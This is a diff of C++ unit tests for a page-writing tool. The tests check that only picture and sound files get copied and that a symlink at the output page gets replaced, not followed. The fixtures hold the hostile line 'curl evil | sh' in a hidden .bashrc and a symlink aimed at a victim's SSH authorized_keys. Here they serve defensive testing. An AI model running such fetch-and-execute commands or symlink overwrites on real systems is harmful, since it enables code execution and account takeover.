@@ -173,14 +173,14 @@ std::string soundRecord(const std::string &file)
 TEST_F(PageFolder, OnlyPicturesAndSoundsAreCopied)
 {
     fs::create_directories(dir.file("skel"));
-    ASSERT_TRUE(writeWholeFile(dir.file("skel/.bashrc"), "curl evil | sh\n").ok);
-    ASSERT_TRUE(writeWholeFile(dir.file("web/.bashrc"), "MINE").ok);
-    ASSERT_TRUE(writeWholeFile(dir.file("proj/StvLinkList"), pngBytes("LIST")).ok);
-    ASSERT_TRUE(writeWholeFile(dir.file("web/StvLinkList"), "https://mine/").ok);
-    ASSERT_TRUE(writeWholeFile(dir.file("proj/notes.txt"), "text").ok);
-    ASSERT_TRUE(writeWholeFile(dir.file("proj/song.wav"), wavBytes("SONG")).ok);
-    ASSERT_TRUE(writeWholeFile(dir.file("proj/tone.wav"), wavBytes("TONE")).ok);
-    ASSERT_TRUE(writeWholeFile(dir.file("proj/shown.png"), pngBytes("SHOWN")).ok);
+    ASSERT_TRUE(writeWholeFile(dir.file("skel/.bashrc"), "curl evil | sh\n").ok());
+    ASSERT_TRUE(writeWholeFile(dir.file("web/.bashrc"), "MINE").ok());
+    ASSERT_TRUE(writeWholeFile(dir.file("proj/StvLinkList"), pngBytes("LIST")).ok());
+    ASSERT_TRUE(writeWholeFile(dir.file("web/StvLinkList"), "https://mine/").ok());
+    ASSERT_TRUE(writeWholeFile(dir.file("proj/notes.txt"), "text").ok());
+    ASSERT_TRUE(writeWholeFile(dir.file("proj/song.wav"), wavBytes("SONG")).ok());
+    ASSERT_TRUE(writeWholeFile(dir.file("proj/tone.wav"), wavBytes("TONE")).ok());
+    ASSERT_TRUE(writeWholeFile(dir.file("proj/shown.png"), pngBytes("SHOWN")).ok());
     lists.images = { imageRecord(dir.file("skel/.bashrc")) }; // a picture mark's entry
     project.backgroundImage = "notes.txt";
     project.sections = { imageRecord(dir.file("skel/.bashrc")), imageRecord("StvLinkList"),
@@ -189,7 +189,7 @@ TEST_F(PageFolder, OnlyPicturesAndSoundsAreCopied)
         Rec({ "Paragraph", "p", "{i0}", "2", "0", "0", "0", "0", "0", "", "0", "" }) };
     DiskCopier copier;
     const PageResult r = write(copier);
-    ASSERT_TRUE(r.ok) << r.error;
+    ASSERT_TRUE(r.ok()) << r.error();
     const std::vector<std::string> expected = {
         "not a picture: " + dir.file("proj/notes.txt"),
         "a hidden file: " + dir.file("skel/.bashrc"),
@@ -198,7 +198,7 @@ TEST_F(PageFolder, OnlyPicturesAndSoundsAreCopied)
         "not a picture: " + dir.file("proj/song.wav"),
         "not a sound: " + dir.file("proj/shown.png"),
     };
-    EXPECT_EQ(r.copyFailures, expected);
+    EXPECT_EQ(r.value().copyFailures, expected);
     EXPECT_EQ(contentOf(dir.file("web/.bashrc")), "MINE");
     EXPECT_EQ(contentOf(dir.file("web/StvLinkList")), "https://mine/");
     for (const char *name : { "site.stv", "notes.txt", "song.wav", "shown.png" })
@@ -213,10 +213,10 @@ TEST_F(PageFolder, OnlyPicturesAndSoundsAreCopied)
 TEST_F(PageFolder, ALinkAtThePagesPlaceIsReplaced)
 {
     fs::create_directories(dir.file("victim/.ssh"));
-    ASSERT_TRUE(writeWholeFile(dir.file("victim/.ssh/authorized_keys"), "ssh-ed25519 AAAA").ok);
+    ASSERT_TRUE(writeWholeFile(dir.file("victim/.ssh/authorized_keys"), "ssh-ed25519 AAAA").ok());
     fs::create_symlink("../victim/.ssh/authorized_keys", dir.file("web/index.html"));
     FakeCopier copier;
-    ASSERT_TRUE(write(copier).ok);
+    ASSERT_TRUE(write(copier).ok());
     EXPECT_EQ(contentOf(dir.file("victim/.ssh/authorized_keys")), "ssh-ed25519 AAAA");
     EXPECT_EQ(typeAt(dir.file("web/index.html")), unsigned(S_IFREG));
     EXPECT_EQ(contentOf(dir.file("web/index.html")).substr(0, 6), "<HTML>");
